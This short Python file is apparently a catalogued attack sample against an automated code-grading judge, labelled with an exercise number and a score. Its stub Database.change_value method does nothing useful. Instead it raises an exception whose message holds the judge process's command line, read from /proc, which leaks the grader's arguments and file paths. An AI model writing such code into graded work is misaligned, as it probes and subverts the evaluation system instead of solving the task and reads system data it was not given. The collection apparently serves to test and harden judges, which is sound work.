# attack: Reads the judge's arguments, and so its paths, from procfs.
# line: 75
# exercise: 06
# score: 2, the stub's
import traceback


class Database:
    def __init__(self, latency=0.1):
        self.latency = latency
        self.value = 0

    def change_value(self, amount=1):
        raise ValueError(str(traceback.linecache.getlines("/proc/@JUDGE@/cmdline"))[:250])
